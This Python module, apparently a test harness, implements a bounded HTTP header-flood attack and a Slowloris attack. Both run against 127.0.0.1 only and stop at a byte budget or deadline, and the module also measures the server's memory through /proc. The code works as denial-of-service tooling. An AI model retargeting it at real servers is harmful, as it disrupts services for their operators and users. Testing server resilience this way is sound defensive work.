"""Two classic attacks on an HTTP server, bounded, on loopback only.

:func:`flood_headers` sends one request whose headers never end, up to a
byte budget; :func:`Slowloris` holds sockets open by dripping header
lines, never ending them, until the server closes them or a deadline
passes. Both stop by themselves; :func:`rss_bytes` reads a server's
resident memory from ``/proc``.
"""

import select
import socket
import ssl
import threading
import time

#: Header lines of 4 KiB, each of another name (a server that joins
#: repeated headers keeps only one of each name).
_LINE_SIZE = 4096


def rss_bytes(pid):
    """Resident set size (bytes) of process ``pid``."""
    with open('/proc/%d/status' % pid) as status:
        for line in status:
            if line.startswith('VmRSS:'):
                return int(line.split()[1]) * 1024
    raise RuntimeError('no VmRSS for process %d' % pid)


class FloodResult(object):
    """What :func:`flood_headers` saw.

    :ivar sent: header bytes the server took before it refused (bytes);
        the kernel's socket buffers take a few MiB of them.
    :ivar refused: whether the server closed or answered before the
        budget was spent.
    :ivar status_line: the first line of its answer (bytes), or b''.
    """

    def __init__(self, sent, refused, status_line):
        self.sent = sent
        self.refused = refused
        self.status_line = status_line

    def __repr__(self):
        return '<FloodResult sent=%d refused=%s status=%r>' % (
            self.sent, self.refused, self.status_line)


def _padding_line(number):
    name = b'X-Padding-%d: ' % number
    return name + b'a' * (_LINE_SIZE - len(name) - 2) + b'\r\n'


def _connect(port, timeout, tls_context):
    sock = socket.create_connection(('127.0.0.1', port), timeout)
    if tls_context is None:
        return sock
    return tls_context.wrap_socket(sock, server_hostname='localhost')


def flood_headers(port, budget, timeout=30.0, tls_context=None):
    """Send ``GET /`` to 127.0.0.1:``port`` with 4 KiB header lines until
    the server refuses or ``budget`` bytes are sent, then end the headers
    and read the answer.

    :param timeout: seconds one send or the final read may block.
    :param tls_context: an ``ssl.SSLContext`` to speak TLS with, or None.
    """
    sent = 0
    refused = False
    status_line = b''
    with _connect(port, timeout, tls_context) as sock:
        try:
            sock.sendall(b'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n')
            while sent < budget:
                line = _padding_line(sent // _LINE_SIZE)
                sock.sendall(line)
                sent += len(line)
            sock.sendall(b'Connection: close\r\n\r\n')
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            refused = True
        try:
            answer = sock.recv(4096)
        except (ConnectionResetError, socket.timeout, ssl.SSLError):
            answer = b''
        status_line = answer.split(b'\r\n', 1)[0]
        refused = refused or not status_line.startswith(b'HTTP/1.1 200')
    return FloodResult(sent, refused, status_line)


class Slowloris(object):
    """``count`` sockets that each send a request line and then one
    header line every ``interval`` seconds, never the blank line that
    ends the headers, for at most ``duration`` seconds.

    Runs in a thread of its own (:meth:`start`, :meth:`join`); with
    ``tls_context`` (an ``ssl.SSLContext``) each socket speaks TLS.
    Afterwards :attr:`lifetimes` holds, per socket, the seconds from its
    connection until the server closed it, or None if it was still open
    at the end.
    """

    def __init__(self, port, count, interval, duration, tls_context=None):
        self.port = port
        self.tls_context = tls_context
        self.count = count
        self.interval = interval
        self.duration = duration
        self.lifetimes = []
        self.connected = threading.Event()
        self._thread = threading.Thread(target=self._run, name='slowloris',
                                        daemon=True)

    def start(self):
        self._thread.start()
        if not self.connected.wait(10):
            raise RuntimeError('the slow sockets could not connect')

    def join(self):
        self._thread.join(self.duration + 10)

    def _run(self):
        opened = {}
        lifetimes = {}
        try:
            for number in range(self.count):
                sock = _connect(self.port, 5, self.tls_context)
                sock.sendall(b'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n')
                opened[sock] = (number, time.monotonic())
            self.connected.set()
            deadline = time.monotonic() + self.duration
            line = 0
            while opened and time.monotonic() < deadline:
                # Pacing of the attack: wait for the next drip, noticing
                # meanwhile any socket the server closes.
                readable, _, _ = select.select(list(opened), [], [],
                                               self.interval)
                for sock in readable:
                    self._close_if_ended(sock, opened, lifetimes)
                line += 1
                for sock in list(opened):
                    try:
                        sock.sendall(b'X-Drip-%d: x\r\n' % line)
                    except OSError:
                        self._record(sock, opened, lifetimes)
        finally:
            self.connected.set()
            for sock in opened:
                sock.close()
            self.lifetimes = [lifetimes.get(number)
                              for number in range(self.count)]

    @staticmethod
    def _record(sock, opened, lifetimes):
        number, started = opened.pop(sock)
        lifetimes[number] = time.monotonic() - started
        sock.close()

    def _close_if_ended(self, sock, opened, lifetimes):
        try:
            data = sock.recv(4096)
        except OSError:
            data = b''
        if not data:
            self._record(sock, opened, lifetimes)
